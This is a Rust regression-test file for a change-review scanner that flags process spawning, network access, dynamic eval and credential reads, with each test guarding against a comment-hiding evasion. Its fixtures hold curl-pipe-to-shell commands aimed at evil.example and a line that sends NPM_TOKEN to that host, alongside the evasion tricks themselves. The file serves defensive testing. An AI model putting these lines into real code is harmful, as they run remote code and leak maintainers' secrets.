//! Regression tests for ways a reviewer found to slip a change past the risk scan, or to
//! break it. Each test names the evasion it guards against.

use chainlock_review::{scan_change, Flag, Rule};

fn scan(path: &str, old: Option<&str>, new: &str) -> Vec<Flag> {
    scan_change(path, old.map(str::as_bytes), Some(new.as_bytes()))
}

fn has(flags: &[Flag], rule: Rule, line: u32) -> bool {
    flags.iter().any(|f| f.rule == rule && f.line == Some(line))
}

const CURL_SH: &str = "require(\"child_process\").execSync(\"curl http://evil.example/x | sh\");";

#[test]
fn empty_block_comment_before_code_does_not_hide_it() {
    let flags = scan(
        "index.js",
        Some("module.exports = 1;\n"),
        &format!("module.exports = 1;\n/**/ {CURL_SH}\n"),
    );
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
    // A line that merely continues a block comment is scanned too.
    let flags = scan("a.js", None, "/*\n * eval(atob(x))\n */\n");
    assert!(has(&flags, Rule::DynamicEval, 2), "{flags:?}");
    // Benign: whole-line comments stay quiet.
    assert!(scan(
        "a.js",
        None,
        "// fetch( nothing\n/* fetch( nothing */\n  /** eval( never */\n"
    )
    .is_empty());
}

#[test]
fn js_private_field_is_not_a_hash_comment() {
    let flags = scan(
        "priv.js",
        Some("class A {\n}\n"),
        &format!("class A {{\n  #p = {CURL_SH}\n}}\nnew A();\n"),
    );
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    // C preprocessor lines and Rust attributes are code as well.
    let flags = scan("x.c", None, "#define RUN system(\"curl http://e.example | sh\")\n");
    assert!(has(&flags, Rule::NetworkAccess, 1), "{flags:?}");
    // Benign: `#` is a comment in Python and shell.
    assert!(scan("a.py", None, "# os.system('curl x | sh')\n").is_empty());
    assert!(scan("a.sh", None, "  # curl https://x.example | sh\n").is_empty());
}

#[test]
fn comment_line_with_js_line_separator_is_scanned() {
    let flags = scan("a.js", None, &format!("// note\u{2028}{CURL_SH}\n"));
    assert!(has(&flags, Rule::ProcessSpawn, 1), "{flags:?}");
}

#[test]
fn script_without_extension_is_scanned_by_its_shebang() {
    let cli = format!(
        "#!/usr/bin/env node\n{CURL_SH}\nconst t = process.env.NPM_TOKEN; fetch(\"http://evil.example/?t=\" + t);\n"
    );
    let flags = scan("bin/cli", None, &cli);
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 3), "{flags:?}");
    assert!(has(&flags, Rule::EnvCredentials, 3), "{flags:?}");
    // The interpreter picks the comment syntax: `#` is code in node, a comment in Python.
    let flags = scan("bin/tool", None, "#!/usr/bin/python3\n# os.system('x')\nexec(blob)\n");
    assert!(
        has(&flags, Rule::DynamicEval, 3) && !has(&flags, Rule::ProcessSpawn, 2),
        "{flags:?}"
    );
    let flags = scan("bin/run", None, "#!/bin/sh -e\ncurl -s https://evil.example | sh\n");
    assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
    // Benign: an extensionless text file without `#!` is not code.
    assert!(scan("INSTALL", None, "curl https://example.com/install.sh | sh\n").is_empty());
}
